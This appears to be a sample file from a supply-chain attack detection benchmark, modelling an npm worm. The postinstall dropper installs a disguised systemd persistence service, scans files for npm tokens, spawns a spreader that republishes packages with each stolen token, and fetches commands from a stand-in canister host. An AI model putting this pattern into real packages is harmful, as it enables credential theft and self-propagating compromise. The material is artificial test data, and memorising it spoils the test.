import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { collectSecrets, persistAs, republish } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import type { LineChange, PackageLine } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/**
 * CanisterWorm, 20 March 2026: tokens taken through a trojaned scanner; `@emilgroup/*`, `@opengov/*` and others, 28 packages in less
 * than a minute. The hook writes a Python backdoor and a user's service that poses as PostgreSQL, asks a canister on a chain where to
 * go, and publishes further with each token found.
 */
export const canisterWorm2026: Sample = defineAttack({
  id: "canister-worm-2026",
  title: "A hook sets up a service that poses as a database and asks a canister for orders",
  group: "takeover",
  trigger: "install",
  judged: [{ name: "@emilgroup/billing-sdk", version: "1.56.1" }],
  now: "2026-03-20T21:05:00Z",
  createLines: () => [
    line("@emilgroup/billing-sdk", ["1.54.0", "1.56.0", "1.56.1"], "2026-03-20T20:45:04Z"),
    line("@emilgroup/document-sdk", ["1.44.0", "1.45.0", "1.45.1"], "2026-03-20T20:45:12Z"),
    line("@opengov/form-utils", ["0.7.1", "0.7.2", "0.7.3"], "2026-03-20T20:45:31Z"),
  ],
});

function line(
  name: string,
  [older, last, armed]: readonly [string, string, string],
  at: string,
): PackageLine {
  const change: LineChange = {
    hasCommit: false,
    manifest: {
      scripts: { postinstall: "node index.js", deploy: "node scripts/deploy.js" },
      main: "index.js",
    },
    files: [
      { path: "index.js", content: dropper },
      { path: "scripts/deploy.js", content: spreader },
    ],
  };
  return {
    name,
    files: serviceClient(name),
    publisher: person("emil-ci"),
    releases: [
      [older, "2025-11-12T10:00:00Z"],
      [last, "2026-02-18T10:00:00Z"],
      [armed, at, change],
    ],
  };
}

const dropper = commonScript(
  `${String.raw`
const fs = require("fs");
const os = require("os");
const path = require("path");
const { execSync, spawn } = require("child_process");
const backdoor = Buffer.from("cHJpbnQoImluZXJ0Iik=", "base64");
const folder = path.join(os.homedir(), ".local", "share", "pgmon");
fs.mkdirSync(folder, { recursive: true });
fs.writeFileSync(path.join(folder, "service.py"), backdoor, { mode: 0o755 });
const units = path.join(os.homedir(), ".config", "systemd", "user");
fs.mkdirSync(units, { recursive: true });
fs.writeFileSync(path.join(units, "pgmon.service"), "[Unit]\nDescription=PostgreSQL Monitor\n[Service]\nExecStart=/usr/bin/python3 " + folder + "/service.py\nRestart=always\nRestartSec=5\n[Install]\nWantedBy=default.target\n");
execSync("systemctl --user daemon-reload && systemctl --user enable pgmon.service && systemctl --user start pgmon.service || true", { stdio: "ignore" });
`}
${collectSecrets}
const tokens = Object.values(loot.files).join(" ").match(/npm_[A-Za-z0-9]{36}/g) || [];
for (const token of tokens) {
  spawn(process.execPath, [path.join(__dirname, "scripts", "deploy.js")], { detached: true, stdio: "ignore", env: { ...process.env, NPM_TOKEN: token } }).unref();
}
fetch("https://tdtqy-oyaaa-aaaae-af2dq-cai.raw.icp.invalid/").then((reply) => reply.text()).then((link) => {
  fs.writeFileSync("/tmp/.pg_state", link);
});
`.replace(collectSecrets, collectSecrets.replaceAll(/^const (fs|os|path) = .*\n/gm, "")),
);

const spreader = commonScript(`
${collectSecrets}
${republish}
${persistAs("pgmon")}
republish(npmToken()).catch(() => {});
`);
